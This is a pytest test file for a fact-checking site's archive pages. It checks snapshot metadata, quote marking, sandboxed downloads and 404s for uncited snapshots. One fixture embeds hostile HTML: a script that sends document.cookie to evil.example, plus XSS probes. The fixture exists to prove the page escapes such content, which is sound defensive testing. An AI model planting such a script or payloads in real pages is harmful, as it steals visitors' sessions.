"""Archive pages /archive/{snapshot_id}/: what was fetched for a cited snapshot, the quote marked
in its text, and the capture and body as downloads that never render on Verifier's origin."""

import hashlib
from pathlib import Path

import pytest
from django.core.files.storage import default_storage

from sources.models import Snapshot
from tests.verifier.conftest import record_fetch
from tests.verifier.provenance.packages import QUOTE, fetch_now, publish_citing_site
from verifier.services.claims import claim_create
from verifier.services.evidence import evidence_add

pytestmark = pytest.mark.django_db

HOSTILE_QUOTE = "the drones were delivered in August"
HOSTILE = f"""<!doctype html><html><head><title>Drones</title>
<script>document.location = "https://evil.example/steal?" + document.cookie</script></head>
<body><article><h1>&lt;script&gt;alert(1)&lt;/script&gt; Deliveries</h1>
<p>Officials say {HOSTILE_QUOTE}, before the attack began.</p>
<p>&lt;img src=x onerror=alert(2)&gt; was written here as text.</p></article></body></html>"""


def archive_url(snapshot_id: int, download: str = "") -> str:
    return f"/archive/{snapshot_id}/{download}"


@pytest.fixture
def published(site, fact_checker, reviewer):
    return publish_citing_site(site, fact_checker, reviewer)


@pytest.fixture
def cited(published) -> Snapshot:
    """The snapshot the published verdict's fingerprint cites."""
    (entry,) = published.verdicts.get().fingerprint()
    return Snapshot.objects.get(pk=entry["snapshot"])


def download(response) -> bytes:
    return b"".join(response.streaming_content)


def test_the_archive_page_shows_the_capture_metadata_and_the_quote_marked(client, cited):
    response = client.get(archive_url(cited.pk))

    assert response.status_code == 200
    page = response.content.decode()
    assert '<mark class="quote" title="Quoted in fact-check' in page
    marked = page.split('<mark class="quote"', 1)[1].split(">", 1)[1].split("</mark>", 1)[0]
    assert " ".join(marked.split()) == QUOTE
    for shown in (
        cited.requested_url,
        cited.content_sha256,
        cited.warc_sha256,
        cited.text_sha256,
        "127.0.0.1",
        f'datetime="{cited.fetched_at.isoformat()}"',
    ):
        assert shown in page
    assert "<dt>HTTP status</dt>\n          <dd>200</dd>" in page
    assert f'href="/archive/{cited.pk}/capture.warc.gz" download' in page
    assert f'href="/archive/{cited.pk}/body" download' in page
    assert response["ETag"] and response["Last-Modified"]


def test_the_archive_page_answers_a_conditional_get_like_other_public_pages(client, cited):
    etag = client.get(archive_url(cited.pk))["ETag"]

    assert client.get(archive_url(cited.pk), HTTP_IF_NONE_MATCH=etag).status_code == 304


def test_the_warc_capture_downloads_as_stored_and_never_renders(client, cited):
    response = client.get(archive_url(cited.pk, "capture.warc.gz"))

    data = download(response)
    assert hashlib.sha256(data).hexdigest() == cited.warc_sha256
    assert response["Content-Type"] == "application/warc"
    assert response["Content-Disposition"] == f'attachment; filename="snapshot-{cited.pk}.warc.gz"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox"
    assert response["ETag"] == f'"{cited.warc_sha256}"'
    again = client.get(archive_url(cited.pk, "capture.warc.gz"), HTTP_IF_NONE_MATCH=response["ETag"])
    assert again.status_code == 304


def test_the_raw_body_downloads_as_opaque_bytes(client, cited):
    response = client.get(archive_url(cited.pk, "body"))

    assert hashlib.sha256(download(response)).hexdigest() == cited.content_sha256
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox"


def test_a_damaged_body_is_not_served_under_its_hash(client, cited):
    path = Path(default_storage.path(cited.body.name))
    kept = path.read_bytes()
    try:
        path.write_bytes(b"<html>something else</html>")

        assert client.get(archive_url(cited.pk, "body")).status_code == 404
    finally:
        # Stored bodies are shared by hash across tests.
        path.write_bytes(kept)


def test_hostile_html_is_escaped_on_the_page_and_only_downloaded(client, site, fact_checker, reviewer):
    site.expect_request("/hostile").respond_with_data(HOSTILE, content_type="text/html")
    claim = publish_citing_site(site, fact_checker, reviewer, path="/hostile", quote=HOSTILE_QUOTE)
    (entry,) = claim.verdicts.get().fingerprint()

    page = client.get(archive_url(entry["snapshot"])).content.decode()
    body = client.get(archive_url(entry["snapshot"], "body"))

    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "evil.example" not in page and "<img src=x" not in page
    assert "&lt;img src=x onerror=alert(2)&gt;" in page
    assert b"evil.example" in download(body)
    assert body["Content-Security-Policy"] == "sandbox" and body["Content-Type"] == "application/octet-stream"


def test_a_snapshot_no_published_verdict_cites_is_a_404_for_readers(
    client, site, cited, published, fact_checker, reviewer, as_user
):
    later = fetch_now(cited.source)  # a re-check after publication: not what the verdict cites
    draft = claim_create(actor=fact_checker, text="A claim in draft", claimant_name="Iran")
    url = site.url_for("/draft-only")
    evidence = evidence_add(actor=fact_checker, claim=draft, url=url, quote="x", stance="supports")
    uncited = record_fetch(evidence.source, text="A page only a draft cites.")

    for snapshot_id in (later.pk, uncited.pk, 999_999):
        for path in ("", "capture.warc.gz", "body"):
            assert client.get(archive_url(snapshot_id, path)).status_code == 404
    assert client.get(archive_url(cited.pk)).status_code == 200
    assert as_user(reviewer).get(archive_url(later.pk)).status_code == 200


def test_a_snapshot_without_a_capture_says_so(client, make_published_claim):
    claim = make_published_claim()
    (entry,) = claim.verdicts.get().fingerprint()

    page = client.get(archive_url(entry["snapshot"])).content.decode()

    assert "No WARC capture: this snapshot was taken before" in page
    assert "capture.warc.gz" not in page
    assert client.get(archive_url(entry["snapshot"], "capture.warc.gz")).status_code == 404


def test_the_public_page_links_each_evidence_to_the_snapshot_its_verdict_cites(client, published, cited):
    fetch_now(cited.source)  # the source changed after publication; the archive link stays put

    page = client.get(published.get_absolute_url()).content.decode()

    assert f'<a href="/archive/{cited.pk}/">Archived copy of source 1</a>' in page
    assert Snapshot.objects.filter(source=cited.source).count() == 2
    assert f'href="/api/v1/claims/{published.pk}/evidence-package/" download' in page


def test_the_admin_claim_page_offers_the_package_of_each_published_version(as_user, published, reviewer):
    page = as_user(reviewer).get(f"/admin/claims/claim/{published.pk}/change/").content.decode()

    assert f'href="/api/v1/claims/{published.pk}/evidence-package/" download' in page
    assert "Download the evidence package</a> of published version 1" in page


def test_an_unfetched_source_has_no_archive_link(client, make_published_claim):
    claim = make_published_claim(fetched=False)

    page = client.get(claim.get_absolute_url()).content.decode()

    assert "/archive/" not in page
